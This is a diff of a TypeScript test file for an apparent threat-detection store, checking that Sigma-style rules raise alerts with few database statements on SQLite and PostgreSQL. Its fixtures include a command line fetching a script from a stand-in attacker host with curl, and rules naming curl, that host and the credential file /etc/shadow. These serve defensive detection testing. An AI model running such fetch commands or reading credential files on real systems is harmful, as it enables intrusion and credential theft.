@@ -61,68 +61,79 @@ for (const dialect of DIALECTS) {
       assert.equal(JSON.parse(rows[0].detail ?? '{}').cmdline, 'curl -s http://EVIL.example/x.sh');
     }));
 
-  test(`[${dialect}] a batch costs one read of its rows for all tables, and one more per table with matches, not one per rule`, (t) =>
-    withStore(t, dialect, async (store) => {
-      // Three rules match the curl row of batch 1 — one by a regular expression, which only the
-      // engine decides on PostgreSQL — and one matches the /etc/shadow row of batch 2.
-      const rules = [
-        compiled(store, 'curl', 'process_creation', '    Image|endswith: /curl'),
-        compiled(store, 'evil', 'process_creation', '    CommandLine|contains: evil.example'),
-        compiled(store, 'evil-re', 'process_creation', "    CommandLine|re: 'EVIL\\.exa[m]ple/'"),
-        compiled(store, 'nothing-re', 'process_creation', "    CommandLine|re: 'curl -s http://n[o]where'"),
-        compiled(store, 'shadow', 'file_event', '    TargetFilename: /etc/shadow'),
-      ];
-      const statements: number[] = [];
-      const counting = (): KyselyPlugin => {
-        statements.push(0);
-        return {
-          transformQuery: (args) => {
-            statements[statements.length - 1]++;
-            return args.node;
-          },
-          transformResult: async (args) => args.result,
+  for (const asWritten of [true, false])
+    test(`[${dialect}] a batch costs ${asWritten ? 'no read of the rows ingest wrote' : 'one read of its rows for all tables'}, and with matches one more statement per table and the insert (PostgreSQL: one), not one per rule`, (t) =>
+      withStore(t, dialect, async (store) => {
+        // Three rules match the curl row of batch 1 — one by a regular expression, which only the
+        // engine decides on PostgreSQL — and one matches the /etc/shadow row of batch 2.
+        const rules = [
+          compiled(store, 'curl', 'process_creation', '    Image|endswith: /curl'),
+          compiled(store, 'evil', 'process_creation', '    CommandLine|contains: evil.example'),
+          compiled(store, 'evil-re', 'process_creation', "    CommandLine|re: 'EVIL\\.exa[m]ple/'"),
+          compiled(store, 'nothing-re', 'process_creation', "    CommandLine|re: 'curl -s http://n[o]where'"),
+          compiled(store, 'shadow', 'file_event', '    TargetFilename: /etc/shadow'),
+        ];
+        const statements: number[] = [];
+        const counting = (): KyselyPlugin => {
+          statements.push(0);
+          return {
+            transformQuery: (args) => {
+              statements[statements.length - 1]++;
+              return args.node;
+            },
+            transformResult: async (args) => args.result,
+          };
         };
-      };
-      await huntFixture(store, (trx, b) => recordAlerts(trx.withPlugin(counting()), rules, b).then(() => {}));
-      // Per batch: one read of its rows in every table the rules use (processes, file opens: one
-      // UNION ALL), one read of the matched rows per table with matches (with the regex rules' SQL
-      // as columns), one insert.
-      assert.deepEqual(statements, [3, 3]);
-      const rows = await store.db.selectFrom('alerts').selectAll().orderBy('id').execute();
-      const bySql = await huntSql(store.db, rules, { limit: 1000 });
-      assert.deepEqual(rows.map((r) => r.rule).sort(), ['curl', 'evil', 'evil-re', 'shadow']);
-      assert.deepEqual(
-        rows.map((r) => [r.rule, Number(r.t), Number(r.row_id), Number(r.batch_seq), r.batch_hash]).sort(),
-        bySql
-          .map((a) => [
-            a.rule_id,
-            a.time,
-            Number(a.table === 'processes' ? a.process_id : a.file_id),
-            a.batch_seq,
-            a.batch_hash,
-          ])
-          .sort(),
-      );
-      // The alert's row is the one hunt prints, column for column.
-      for (const r of rows) {
-        const a = bySql.find((x) => x.rule_id === r.rule)!;
-        const {
-          time,
-          host,
-          pid,
-          rule_id,
-          title,
-          level,
-          author,
-          batch_seq,
-          batch_hash,
-          host_id,
-          table,
-          ...row
-        } = a;
-        assert.deepEqual(JSON.parse(r.detail ?? '{}'), JSON.parse(JSON.stringify(row)), r.rule);
-      }
-    }));
+        await huntFixture(store, (trx, b) =>
+          recordAlerts(
+            trx.withPlugin(counting()),
+            rules,
+            asWritten ? b : { hostId: b.hostId, seq: b.seq },
+          ).then(() => {}),
+        );
+        // Per batch: one read of its rows in every table the rules use (processes, file opens: one
+        // UNION ALL) — none when ingest hands them over as written and the rules read no field only
+        // the store has; then, on SQLite, one read of the matched rows per table with matches (with
+        // the regex rules' SQL as columns) and one insert; on PostgreSQL (rowJson) one INSERT …
+        // SELECT that reads them (its regexes decided in JavaScript on these ASCII rows).
+        const perBatch = (store.caps.rowJson === null ? 3 : 2) - (asWritten ? 1 : 0);
+        assert.deepEqual(statements, [perBatch, perBatch]);
+        const rows = await store.db.selectFrom('alerts').selectAll().orderBy('id').execute();
+        const bySql = await huntSql(store.db, rules, { limit: 1000 });
+        assert.deepEqual(rows.map((r) => r.rule).sort(), ['curl', 'evil', 'evil-re', 'shadow']);
+        assert.deepEqual(
+          rows.map((r) => [r.rule, Number(r.t), Number(r.row_id), Number(r.batch_seq), r.batch_hash]).sort(),
+          bySql
+            .map((a) => [
+              a.rule_id,
+              a.time,
+              Number(a.table === 'processes' ? a.process_id : a.file_id),
+              a.batch_seq,
+              a.batch_hash,
+            ])
+            .sort(),
+        );
+        // The alert's row is the one hunt prints, column for column.
+        for (const r of rows) {
+          const a = bySql.find((x) => x.rule_id === r.rule)!;
+          const {
+            time,
+            host,
+            pid,
+            rule_id,
+            title,
+            level,
+            author,
+            batch_seq,
+            batch_hash,
+            host_id,
+            table,
+            ...row
+          } = a;
+          assert.deepEqual(JSON.parse(r.detail ?? '{}'), JSON.parse(JSON.stringify(row)), r.rule);
+          assert.equal(r.detail, JSON.stringify(row), `${r.rule}: the same text`);
+        }
+      }));
 
   test(`[${dialect}] live alerts commit with their batch or not at all`, (t) =>
     withStore(t, dialect, async (store) => {
